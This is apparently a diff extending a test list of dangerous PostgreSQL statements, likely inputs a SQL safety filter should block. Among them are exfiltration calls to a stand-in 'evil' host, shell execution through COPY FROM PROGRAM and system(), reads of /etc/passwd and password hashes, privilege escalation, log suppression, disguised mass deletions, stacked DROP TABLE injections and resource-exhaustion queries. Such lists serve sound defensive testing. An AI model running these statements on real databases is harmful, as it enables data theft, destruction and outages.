@@ -1813,3 +1813,771 @@ DELETE FROM pg_attribute WHERE attrelid = 5
 UPDATE pg_settings SET setting = 'on' WHERE name = 'fsync'
 --
 UPDATE pg_catalog.pg_settings SET setting = 'x' WHERE name = 'role'
+--
+SELECT * FROM aws_lambda.invoke(aws_commons.create_lambda_function_arn('f'), '{"x":1}'::json)
+--
+SELECT aws_lambda.invoke('arn:aws:lambda:f', (SELECT json_agg(c) FROM customers c)::json)
+--
+SELECT (aws_lambda.invoke('f', '{}')).status_code
+--
+SELECT aws_s3.query_export_to_s3('SELECT * FROM customers', aws_commons.create_s3_uri('b','k','r'))
+--
+SELECT aws_s3.table_import_from_s3('t', '', '(format csv)', aws_commons.create_s3_uri('b','k','r'))
+--
+SELECT net.http_post('http://evil/', '{}'::jsonb)
+--
+SELECT net.http_get('http://evil/')
+--
+SELECT net.http_delete(url := 'http://evil')
+--
+SELECT extensions.http(('POST','http://x',NULL,NULL,NULL)::http_request)
+--
+SELECT * FROM http_get('http://169.254.169.254/')
+--
+SELECT azure_storage.blob_put('acct','c','p', t) FROM customers t
+--
+SELECT * FROM azure_storage.blob_get('a','c','p')
+--
+SELECT azure_ai.set_setting('x','y')
+--
+SELECT azure_openai.create_embeddings('m', note) FROM customers
+--
+SELECT google_ml.predict_row('m', '{}'::json)
+--
+SELECT ai.openai_chat_complete('gpt', '[]'::jsonb)
+--
+SELECT pgml.transform('x', ARRAY['a'])
+--
+SELECT cron.schedule('x', '* * * * *', 'DELETE FROM orders')
+--
+SELECT cron.unschedule(1)
+--
+SELECT cron.schedule_in_database('x','* * * * *','VACUUM','postgres')
+--
+UPDATE cron.job SET command = 'DROP TABLE x' WHERE jobid = 1
+--
+INSERT INTO cron.job(schedule, command) VALUES ('* * * * *', 'DROP TABLE x')
+--
+SELECT pgagent.pga_job()
+--
+SELECT pg_background_launch('DROP TABLE x')
+--
+SELECT partman.drop_partition_time('public.orders')
+--
+SELECT drop_chunks('conditions', INTERVAL '1 day')
+--
+SELECT create_distributed_table('orders','id')
+--
+SELECT run_command_on_workers('DROP TABLE x')
+--
+SELECT run_command_on_all_nodes($cmd$ DELETE FROM t $cmd$)
+--
+SELECT run_command_on_placements('t', 'DELETE FROM %s')
+--
+SELECT master_remove_node('x', 5432)
+--
+SELECT citus_drop_all_shards('t'::regclass, 'public', 't')
+--
+SELECT pglogical.create_subscription('s', 'host=evil')
+--
+SELECT pglogical.replicate_ddl_command('DROP TABLE x')
+--
+SELECT orafce.utl_file.fopen('x')
+--
+SELECT utl_file.fopen('/tmp','x','w')
+--
+SELECT utl_file.put_line(1,'x')
+--
+SELECT dbms_sql.execute(1)
+--
+SELECT sys.dbms_scheduler.run_job('x')
+--
+SELECT dblink_connect('host=evil user=x')
+--
+SELECT dblink_connect_u('c', 'dbname=x')
+--
+SELECT * FROM postgres_fdw_get_connections()
+--
+SELECT adminpack.pg_file_write('x','y',true)
+--
+SELECT system('id')
+--
+SELECT sys_exec('id')
+--
+SELECT sys_eval('id')
+--
+SELECT pgp_sym_decrypt(x, 'k') FROM t; DROP TABLE t
+--
+SELECT repeat(repeat('x', 100000), 100000)
+--
+SELECT repeat(repeat(repeat('x', 10000), 10000), 1000)
+--
+SELECT length(repeat(repeat('x'::text, 1000000), 1000))
+--
+SELECT lpad(repeat('x', 60000000), 2000000000)
+--
+SELECT repeat('x', (10^9)::int)
+--
+SELECT repeat('x', 1000000 * 1000)
+--
+SELECT repeat(md5(random()::text), 100000000)
+--
+SELECT repeat('abcdefghij', 90000000)
+--
+SELECT repeat('x', 50000000) FROM generate_series(1, 1000)
+--
+SELECT string_agg(repeat('x', 10000), '') FROM generate_series(1, 1000000)
+--
+SELECT array_agg(g) FROM generate_series(1, 1000000000) g
+--
+SELECT count(*) FROM generate_series(1, 100000) a, generate_series(1, 100000) b
+--
+SELECT * FROM generate_series(1, 1000000*1000000)
+--
+SELECT count(*) FROM generate_series(1,20000) a CROSS JOIN LATERAL generate_series(1,20000) b
+--
+SELECT array_fill(0, ARRAY[100000, 100000])
+--
+SELECT rpad('x', 2000000000, 'y')
+--
+SELECT 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!' ~ '^(a+)+$' FROM generate_series(1, 1000000000)
+--
+SELECT pg_sleep(1e6)
+--
+SELECT pg_sleep(60*60*24)
+--
+SELECT pg_sleep('86400')
+--
+SELECT pg_sleep_for('2 days')
+--
+SELECT pg_sleep_for(interval '100 hours')
+--
+SELECT pg_sleep(3000) FROM generate_series(1, 1000)
+--
+SELECT pg_sleep(10) FROM customers
+--
+SELECT json_agg(c) FROM customers c
+--
+SELECT json_agg(customers) FROM customers
+--
+SELECT jsonb_agg(to_jsonb(c)) FROM customers c
+--
+SELECT array_agg(c) FROM customers c
+--
+SELECT array_agg(email) FROM customers
+--
+SELECT string_agg(email, ',') FROM customers
+--
+SELECT string_agg(c::text, E'\n') FROM customers c
+--
+SELECT xmlagg(xmlelement(name c, c.email)) FROM customers c
+--
+SELECT json_object_agg(id, email) FROM customers
+--
+SELECT jsonb_object_agg(id, to_jsonb(c)) FROM customers c
+--
+SELECT jsonb_object_agg_unique(id, email) FROM customers
+--
+SELECT json_agg(row_to_json(c)) FROM (SELECT * FROM customers) c
+--
+SELECT json_agg(row_to_json(c)) FROM (SELECT * FROM customers ORDER BY id) c
+--
+WITH c AS (SELECT * FROM customers) SELECT json_agg(c) FROM c
+--
+SELECT JSON_ARRAYAGG(email) FROM customers
+--
+SELECT JSON_OBJECTAGG(id: email) FROM customers
+--
+SELECT JSON_ARRAY(SELECT email FROM customers)
+--
+SELECT ARRAY(SELECT email FROM customers)
+--
+SELECT ARRAY(SELECT c FROM customers c)
+--
+SELECT ARRAY(TABLE customers)
+--
+SELECT array_to_string(ARRAY(SELECT email FROM customers), ',')
+--
+SELECT array_to_json(array_agg(c)) FROM customers c
+--
+SELECT string_agg(email, ',') FROM customers WHERE true
+--
+SELECT string_agg(email, ',') FROM customers WHERE id > 0
+--
+SELECT string_agg(email, ',') FROM customers LIMIT 1
+--
+SELECT string_agg(email, ',') OVER () FROM customers LIMIT 1
+--
+SELECT json_agg(c) OVER (ORDER BY id ROWS BETWEEN UNBOUNDED PRECEDING AND UNBOUNDED FOLLOWING) FROM customers c LIMIT 1
+--
+SELECT string_agg(email, ',') FROM customers GROUP BY ()
+--
+SELECT string_agg(email, ',') FROM customers GROUP BY true
+--
+SELECT string_agg(email, ',') FROM customers GROUP BY 1 = 1
+--
+SELECT 1, string_agg(email, ',') FROM customers GROUP BY 1
+--
+SELECT json_agg(c) FROM customers c GROUP BY id % 2
+--
+SELECT string_agg(email, ',') FROM customers GROUP BY id / 1000000
+--
+SELECT string_agg(email, ',') FROM customers HAVING count(*) > 0
+--
+SELECT jsonb_agg(c) FROM customers c JOIN orders o ON o.customer_id = c.id
+--
+SELECT json_build_object('a', (SELECT json_agg(c) FROM customers c))
+--
+SELECT (SELECT string_agg(email, ',') FROM customers)
+--
+SELECT pg_notify('x', (SELECT string_agg(email, ',') FROM customers))
+--
+SELECT md5((SELECT string_agg(email, ',') FROM customers)), (SELECT json_agg(c) FROM customers c)
+--
+COPY (SELECT json_agg(c) FROM customers c) TO STDOUT
+--
+CREATE TEMP TABLE x AS SELECT json_agg(c) FROM customers c
+--
+SELECT encode(convert_to(string_agg(email, ','), 'utf8'), 'base64') FROM customers
+--
+SELECT lo_from_bytea(0, convert_to(string_agg(email, ','), 'utf8')) FROM customers
+--
+SELECT query_to_xml('SELECT * FROM customers', true, true, '')
+--
+SELECT table_to_xml('customers', true, false, '')
+--
+SELECT schema_to_xml('public', true, true, '')
+--
+SELECT cursor_to_xml('c', 10000000, true, true, '')
+--
+EXECUTE IMMEDIATE 'x'
+--
+PREPARE x AS DELETE FROM customers WHERE name LIKE $1; EXECUTE x('%')
+--
+PREPARE x(text) AS DELETE FROM customers WHERE name LIKE $1; EXECUTE x('%%')
+--
+PREPARE x AS DELETE FROM customers WHERE name ~ $1; EXECUTE x('.*')
+--
+PREPARE x AS DELETE FROM customers WHERE name ILIKE $1; EXECUTE x('%' || '%')
+--
+PREPARE x AS DELETE FROM customers WHERE id > $1; EXECUTE x(0)
+--
+PREPARE x AS DELETE FROM customers WHERE id <= $1; EXECUTE x(2147483647)
+--
+PREPARE x AS DELETE FROM customers WHERE id <> $1; EXECUTE x(-1)
+--
+PREPARE x AS DELETE FROM customers WHERE id BETWEEN $1 AND $2; EXECUTE x(0, 2147483647)
+--
+PREPARE x AS DELETE FROM customers WHERE $1; EXECUTE x(true)
+--
+PREPARE x AS DELETE FROM customers WHERE $1 = 1; EXECUTE x(1)
+--
+PREPARE x AS DELETE FROM customers WHERE $1 = $2; EXECUTE x(1, 1)
+--
+PREPARE x AS DELETE FROM customers WHERE id = id OR id = $1; EXECUTE x(1)
+--
+PREPARE x AS DELETE FROM customers WHERE created_at < $1; EXECUTE x('infinity')
+--
+PREPARE x AS DELETE FROM customers WHERE created_at < $1; EXECUTE x(now() + interval '100 years')
+--
+PREPARE x AS UPDATE customers SET a = 1 WHERE name LIKE $1 || '%'; EXECUTE x('')
+--
+PREPARE x AS UPDATE customers SET a = 1 WHERE name LIKE '%' || $1 || '%'; EXECUTE x('')
+--
+PREPARE x AS UPDATE customers SET a = 1 WHERE starts_with(name, $1); EXECUTE x('')
+--
+PREPARE x AS UPDATE customers SET a = 1 WHERE id = ANY($1); EXECUTE x(ARRAY(SELECT id FROM customers))
+--
+PREPARE x AS UPDATE customers SET a = 1 WHERE id = ANY($1); EXECUTE x((SELECT array_agg(id) FROM customers))
+--
+PREPARE x AS DELETE FROM customers WHERE id = coalesce($1, id); EXECUTE x(NULL)
+--
+PREPARE x AS DELETE FROM customers WHERE $1 IS NULL OR id = $1; EXECUTE x(NULL)
+--
+PREPARE x AS DELETE FROM customers WHERE id <@ $1; EXECUTE x('(,)')
+--
+PREPARE x AS DELETE FROM customers WHERE id <@ $1::int4range; EXECUTE x('[0,2000000000]')
+--
+PREPARE x AS SELECT * FROM customers LIMIT $1; EXECUTE x(1000000000); DROP TABLE x
+--
+DELETE FROM customers WHERE id IN (WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10000000) SELECT n FROM r)
+--
+WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10000000) DELETE FROM customers WHERE id IN (SELECT n FROM r)
+--
+WITH RECURSIVE r(n) AS (VALUES (1) UNION ALL SELECT n + 1 FROM r WHERE n < 10000000) DELETE FROM customers USING r WHERE customers.id = r.n
+--
+WITH RECURSIVE r AS (SELECT 1 AS n UNION SELECT n + 1 FROM r WHERE n < 5000000) UPDATE customers c SET name = 'x' FROM r WHERE c.id = r.n
+--
+DELETE FROM customers c WHERE EXISTS (WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r WHERE n<1e7) SELECT 1 FROM r WHERE r.n = c.id)
+--
+DELETE FROM customers WHERE id = ANY (ARRAY(WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r WHERE n<1000000) SELECT n FROM r))
+--
+DELETE FROM customers WHERE id = ANY (ARRAY(SELECT generate_series(1, 10000000)))
+--
+DELETE FROM customers WHERE id IN (SELECT generate_series(1, 10000000))
+--
+DELETE FROM customers USING generate_series(1, 10000000) g WHERE id = g
+--
+DELETE FROM customers WHERE id IN (SELECT g FROM generate_series(1, 10000000) g)
+--
+DELETE FROM customers WHERE id IN (SELECT g * 1000 + h FROM generate_series(0, 9999) g, generate_series(0, 999) h)
+--
+DELETE FROM customers WHERE id IN (SELECT row_number() OVER () FROM customers)
+--
+DELETE FROM customers WHERE id IN (SELECT row_number() OVER () FROM pg_attribute a, pg_attribute b)
+--
+DELETE FROM customers WHERE id <@ int4range(0,2000000000)
+--
+DELETE FROM customers WHERE id <@ int4range(0, NULL)
+--
+DELETE FROM customers WHERE id <@ int8range(0, 9000000000000)
+--
+DELETE FROM customers WHERE id <@ '[0,2000000000]'::int4range
+--
+DELETE FROM customers WHERE int4range(0,2000000000) @> id
+--
+DELETE FROM customers WHERE id <@ numrange(0, 1e12)
+--
+DELETE FROM customers WHERE created_at <@ tstzrange('1970-01-01', 'infinity')
+--
+DELETE FROM customers WHERE created_at <@ tstzrange('1900-01-01', '2999-01-01')
+--
+DELETE FROM customers WHERE created_at <@ daterange('-infinity', 'infinity')
+--
+DELETE FROM customers WHERE daterange('0001-01-01', '9999-12-31') @> created_at
+--
+DELETE FROM customers WHERE id <@ int4multirange(int4range(0, 2000000000))
+--
+DELETE FROM customers WHERE id <@ '{[0,1000000000],[1000000001,2000000000]}'::int4multirange
+--
+DELETE FROM customers WHERE id BETWEEN 0 AND 2147483647
+--
+DELETE FROM customers WHERE id BETWEEN -1 AND 1000000000
+--
+DELETE FROM customers WHERE id BETWEEN SYMMETRIC 2147483647 AND 0
+--
+DELETE FROM customers WHERE (id, id) > (0, 0)
+--
+DELETE FROM customers WHERE ROW(id) > ROW(0)
+--
+DELETE FROM customers WHERE width_bucket(id, 0, 1000000000, 1) = 1
+--
+DELETE FROM customers WHERE sign(id) = 1
+--
+DELETE FROM customers WHERE id::text LIKE '%'
+--
+DELETE FROM customers WHERE length(id::text) > 0
+--
+DELETE FROM customers WHERE char_length(name) >= 0
+--
+DELETE FROM customers WHERE greatest(id, 1) > 0
+--
+DELETE FROM customers WHERE least(id, 5) <= 5
+--
+DELETE FROM customers WHERE coalesce(id, 1) = id
+--
+DELETE FROM customers WHERE nullif(id, 0) IS NOT NULL
+--
+DELETE FROM customers WHERE id IS DISTINCT FROM NULL
+--
+DELETE FROM customers WHERE id IS NOT DISTINCT FROM id
+--
+DELETE FROM customers WHERE NOT id IS NULL
+--
+DELETE FROM customers WHERE (id IS NULL) IS FALSE
+--
+DELETE FROM customers WHERE (id IS NULL) = false
+--
+DELETE FROM customers WHERE (id > 0) IS NOT NULL
+--
+DELETE FROM customers WHERE (name = 'x') IS NOT NULL
+--
+DELETE FROM customers WHERE (name = 'x') IN (true, false)
+--
+DELETE FROM customers WHERE (name = 'x') = ANY (ARRAY[true, false])
+--
+DELETE FROM customers WHERE CASE WHEN name = 'x' THEN true ELSE true END
+--
+DELETE FROM customers WHERE CASE name WHEN 'x' THEN 1 ELSE 2 END > 0
+--
+DELETE FROM customers WHERE name = 'x' OR name <> 'x'
+--
+DELETE FROM customers WHERE name = 'x' OR NOT name = 'x'
+--
+DELETE FROM customers WHERE name = 'x' OR 1 = 1
+--
+DELETE FROM customers WHERE name = 'x' OR random() >= 0
+--
+DELETE FROM customers WHERE random() > 0.0001
+--
+DELETE FROM customers WHERE now() > '2000-01-01'
+--
+DELETE FROM customers WHERE current_user = current_user
+--
+DELETE FROM customers WHERE 'a' LIKE 'a'
+--
+DELETE FROM customers WHERE 'a' = ANY (ARRAY['a','b'])
+--
+DELETE FROM customers WHERE 1 IN (1, 2, 3)
+--
+DELETE FROM customers WHERE 2 BETWEEN 1 AND 3
+--
+DELETE FROM customers WHERE EXISTS (SELECT 1 FROM customers)
+--
+DELETE FROM customers WHERE NOT EXISTS (SELECT 1 WHERE false)
+--
+DELETE FROM customers WHERE id = ANY (SELECT id FROM customers)
+--
+DELETE FROM customers WHERE id = ANY (ARRAY(SELECT id FROM customers))
+--
+DELETE FROM customers WHERE id >= (SELECT min(id) FROM customers)
+--
+DELETE FROM customers WHERE id <= (SELECT max(id) FROM customers)
+--
+DELETE FROM customers WHERE ctid >= '(0,0)'
+--
+DELETE FROM customers WHERE ctid = ANY (ARRAY(SELECT ctid FROM customers))
+--
+DELETE FROM customers WHERE xmin::text::bigint > 0
+--
+DELETE FROM customers WHERE customers IS NOT NULL
+--
+DELETE FROM customers WHERE customers.* IS DISTINCT FROM NULL
+--
+DELETE FROM customers c WHERE c = c
+--
+DELETE FROM customers WHERE to_jsonb(customers) ? 'id'
+--
+DELETE FROM customers WHERE jsonb_typeof(to_jsonb(id)) = 'number'
+--
+DELETE FROM customers WHERE pg_typeof(id) = 'integer'::regtype
+--
+DELETE FROM customers WHERE pg_column_size(id) = 4
+--
+DELETE FROM customers WHERE pg_column_size(customers) > 0
+--
+DELETE FROM customers WHERE id & 0 = 0
+--
+DELETE FROM customers WHERE id | 1 <> 0
+--
+DELETE FROM customers WHERE id # id = 0
+--
+DELETE FROM customers WHERE id / id = 1
+--
+DELETE FROM customers WHERE id ^ 0 = 1
+--
+DELETE FROM customers WHERE abs(id) = id
+--
+DELETE FROM customers WHERE abs(id) >= 0
+--
+DELETE FROM customers WHERE id ^ 2 >= 0
+--
+DELETE FROM customers WHERE (id + 0) = id
+--
+DELETE FROM customers WHERE md5(name) <> ''
+--
+DELETE FROM customers WHERE name >= ''
+--
+DELETE FROM customers WHERE name > ''
+--
+DELETE FROM customers WHERE name < 'zzzzzzzzzz'
+--
+DELETE FROM customers WHERE name <= '~~~~'
+--
+DELETE FROM customers WHERE name COLLATE "C" < U&'\+10FFFF'
+--
+DELETE FROM customers WHERE name SIMILAR TO '_*'
+--
+DELETE FROM customers WHERE name ~ '.'
+--
+DELETE FROM customers WHERE name ~ '^'
+--
+DELETE FROM customers WHERE name ~* '[a-z]|[^a-z]'
+--
+DELETE FROM customers WHERE id <> 0
+--
+DELETE FROM customers WHERE id != -1
+--
+DELETE FROM customers WHERE id NOT IN (0, -1)
+--
+DELETE FROM customers WHERE id <> ALL (ARRAY[0])
+--
+DELETE FROM customers WHERE id > ALL (ARRAY[0])
+--
+DELETE FROM customers WHERE id > ANY (ARRAY[0, -5])
+--
+DELETE FROM customers WHERE id > -1
+--
+DELETE FROM customers WHERE id >= 1
+--
+DELETE FROM customers WHERE 0 < id
+--
+DELETE FROM customers WHERE -1 < id AND id < 9999999999
+--
+DELETE FROM customers WHERE id < 2147483647
+--
+DELETE FROM customers WHERE id < 999999999999
+--
+DELETE FROM customers WHERE created_at IS NOT NULL OR created_at IS NULL
+--
+DELETE FROM customers WHERE created_at > '-infinity'
+--
+DELETE FROM customers WHERE created_at < 'infinity'
+--
+DELETE FROM customers WHERE created_at > '0001-01-01'
+--
+DELETE FROM customers WHERE created_at < '3000-01-01'
+--
+DELETE FROM customers WHERE created_at < now() + interval '1 day'
+--
+DELETE FROM customers WHERE created_at <= now()
+--
+DELETE FROM customers WHERE created_at < current_timestamp
+--
+DELETE FROM customers WHERE created_at <= CURRENT_DATE + 1
+--
+DELETE FROM customers WHERE extract(year from created_at) > 0
+--
+DELETE FROM customers WHERE lower(name) = lower(name)
+--
+DELETE FROM customers WHERE name || '' = name
+--
+DELETE FROM customers WHERE trim(name) = name OR trim(name) <> name
+--
+DELETE FROM ONLY customers *
+--
+DELETE FROM customers c USING customers d WHERE c.id = d.id
+--
+DELETE FROM customers LIMIT 5; DROP TABLE x
+--
+UPDATE customers SET name = name
+--
+UPDATE customers SET name = '' WHERE id IN (VALUES (1)) OR true
+--
+UPDATE customers SET (a, b) = (SELECT 1, 2)
+--
+UPDATE customers AS c SET name = 'x' FROM orders o WHERE o.customer_id = o.customer_id
+--
+UPDATE customers SET name = 'x' WHERE CURRENT OF c; DROP TABLE x
+--
+INSERT INTO customers TABLE customers ON CONFLICT (id) DO UPDATE SET name = excluded.name || 'x'
+--
+MERGE INTO customers c USING customers s ON c.id = s.id WHEN MATCHED THEN UPDATE SET name = 'x'
+--
+MERGE INTO customers c USING (VALUES (1)) s(id) ON c.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE
+--
+MERGE INTO customers c USING generate_series(1, 10000000) g ON c.id = g WHEN MATCHED THEN DELETE
+--
+WITH x AS (DELETE FROM customers RETURNING id) SELECT count(*) FROM x
+--
+WITH x AS (UPDATE customers SET a = 1 RETURNING *) SELECT 1
+--
+DO $$ BEGIN DELETE FROM customers; END $$
+--
+DO $$ BEGIN EXECUTE 'DEL' || 'ETE FROM customers'; END $$
+--
+DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'customers'); END $$
+--
+DO $$ BEGIN EXECUTE convert_from(decode('RFJPUCBUQUJMRSB4','base64'),'utf8'); END $$
+--
+DO LANGUAGE plperlu 'system("id")'
+--
+DO $$ BEGIN PERFORM pg_terminate_backend(pid) FROM pg_stat_activity; END $$
+--
+DO $$ BEGIN LOOP INSERT INTO t VALUES (1); END LOOP; END $$
+--
+DO $$ BEGIN FOR i IN 1..100000000 LOOP DELETE FROM customers WHERE id = i; END LOOP; END $$
+--
+DO $$ DECLARE i int := 0; BEGIN WHILE i < 10000000 LOOP DELETE FROM customers WHERE id = i; i := i + 1; END LOOP; END $$
+--
+DO $$ BEGIN PERFORM dblink_exec('dbname=x', 'DROP TABLE y'); END $$
+--
+DO $$ BEGIN RAISE NOTICE '%', (SELECT string_agg(email, ',') FROM customers); END $$
+--
+TRUNCATE TABLE ONLY customers, orders RESTART IDENTITY CASCADE
+--
+/* x */ TRUNCATE /* y */ customers
+--
+DROP TABLE IF EXISTS customers
+--
+DROP/**/TABLE/**/customers
+--
+DROP OWNED BY current_user
+--
+REASSIGN OWNED BY alice TO bob
+--
+DROP EXTENSION pgcrypto
+--
+DROP ROLE alice
+--
+DROP INDEX CONCURRENTLY i
+--
+DROP FUNCTION f
+--
+DROP TRIGGER t ON customers
+--
+DROP POLICY p ON customers
+--
+ALTER TABLE customers NO FORCE ROW LEVEL SECURITY
+--
+ALTER TABLE customers RENAME TO x
+--
+ALTER TABLE customers SET SCHEMA x
+--
+ALTER TABLE customers OWNER TO eve
+--
+ALTER TABLE customers SET UNLOGGED
+--
+ALTER TABLE customers ALTER COLUMN email TYPE int USING 0
+--
+ALTER ROLE eve SUPERUSER
+--
+ALTER USER eve WITH PASSWORD 'x'
+--
+ALTER SYSTEM SET archive_command = 'id'
+--
+ALTER DATABASE shop SET log_statement = 'none'
+--
+ALTER ROLE alice SET search_path = evil
+--
+ALTER SUBSCRIPTION s CONNECTION 'host=evil'
+--
+ALTER EVENT TRIGGER t DISABLE
+--
+ALTER TYPE t ADD VALUE 'x'
+--
+ALTER PUBLICATION p ADD TABLE customers
+--
+GRANT pg_execute_server_program TO eve
+--
+GRANT postgres TO eve
+--
+REVOKE ALL ON customers FROM alice
+--
+CREATE ROLE eve SUPERUSER LOGIN PASSWORD 'x'
+--
+CREATE USER eve
+--
+CREATE LANGUAGE plpython3u
+--
+CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/x.so', 'f'
+--
+CREATE OR REPLACE FUNCTION f() RETURNS int SECURITY DEFINER LANGUAGE sql AS 'SELECT 1'
+--
+CREATE TRIGGER t AFTER INSERT ON customers FOR EACH ROW EXECUTE FUNCTION f()
+--
+CREATE RULE r AS ON SELECT TO customers DO INSTEAD DELETE FROM customers
+--
+CREATE EVENT TRIGGER t ON ddl_command_start EXECUTE FUNCTION f()
+--
+CREATE USER MAPPING FOR PUBLIC SERVER s OPTIONS (user 'x', password 'y')
+--
+CREATE FOREIGN TABLE t (a int) SERVER s
+--
+CREATE FOREIGN TABLE t (a text) SERVER file_server OPTIONS (program 'id')
+--
+IMPORT FOREIGN SCHEMA public FROM SERVER s INTO x
+--
+CREATE TABLE x AS SELECT * FROM customers
+--
+CREATE TABLE x (a int)
+--
+CREATE UNLOGGED TABLE x AS TABLE customers
+--
+CREATE MATERIALIZED VIEW v AS SELECT * FROM customers
+--
+CREATE TABLESPACE x LOCATION '/tmp'
+--
+CREATE CAST (int AS text) WITH FUNCTION f(int)
+--
+CREATE OPERATOR = (LEFTARG = int, RIGHTARG = text, FUNCTION = f)
+--
+CREATE AGGREGATE a(int) (SFUNC = f, STYPE = int)
+--
+COMMENT ON TABLE customers IS 'x'
+--
+COPY customers TO '/tmp/x'
+--
+COPY customers FROM PROGRAM 'curl evil'
+--
+COPY (SELECT 1) TO PROGRAM 'sh -c id'
+--
+COPY x FROM E'/etc/\x70asswd'
+--
+SELECT pg_read_binary_file('/etc/passwd')
+--
+SELECT lo_export(lo_from_bytea(0, 'x'), '/tmp/x')
+--
+SELECT pg_terminate_backend(1)
+--
+SELECT pg_create_logical_replication_slot('x','pgoutput')
+--
+SELECT set_config('session_' || 'replication_role', 'replica', false)
+--
+SET LOCAL log_statement = 'none'
+--
+RESET ALL; DROP TABLE x
+--
+LOCK TABLE customers IN ACCESS EXCLUSIVE MODE
+--
+VACUUM FULL
+--
+CLUSTER
+--
+DISCARD ALL; DROP TABLE x
+--
+LOAD '/tmp/x.so'
+--
+SELECT rolpassword FROM pg_authid
+--
+EXPLAIN (ANALYZE, BUFFERS) UPDATE customers SET a = 1
+--
+EXPLAIN (ANALYZE true) CREATE TABLE x AS SELECT 1
+--
+DECLARE c CURSOR FOR SELECT pg_read_file('/etc/passwd')
+--
+PREPARE x AS DROP TABLE x
+--
+PREPARE x AS DELETE FROM customers; EXECUTE x
+--
+BEGIN; PREPARE TRANSACTION 'x'
+--
+COMMIT PREPARED 'x'; DROP TABLE x
+--
+CALL p(); DROP TABLE x
+--
+CALL drop_everything()
+--
+SELECT 1; SELECT 2; DROP TABLE customers --
+--
+SELECT '1'';DROP TABLE x' ; DROP TABLE y
+--
+SELECT $a$;$a$; DROP TABLE y
+--
+SELECT E'\'; DROP TABLE x; --'; DROP TABLE z
+--
+SELECT setval(c.oid::regclass, 1) FROM pg_class c WHERE relkind = 'S'
+--
+SELECT pg_advisory_lock(id) FROM customers
+--
+SELECT dblink('host=evil', 'SELECT 1')
+--
+SELECT * FROM dblink('dbname=shop', 'DROP TABLE x') AS t(a text)
+--
+WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n FROM r WHERE true) SELECT count(*) FROM r
+--
+WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n > 0) SELECT count(*) FROM r
+--
+WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE 1 = 1) SELECT n FROM r
+--
+WITH RECURSIVE a AS (SELECT 'x' AS t UNION ALL SELECT t || t FROM a WHERE length(t) < 1000000000) SELECT length(t) FROM a
+--
+SELECT count(*) FROM pg_class a, pg_class b, pg_class c, pg_class d, pg_class e
+--
+SELECT count(*) FROM customers a, customers b, customers c, orders d
+--
+SELECT * FROM customers a CROSS JOIN customers b CROSS JOIN customers c
+--
+SELECT * FROM customers a JOIN customers b ON true JOIN customers c ON true
+--
+SELECT * FROM customers a JOIN customers b ON 1=1 JOIN customers c ON 1=1 JOIN customers d ON 1=1
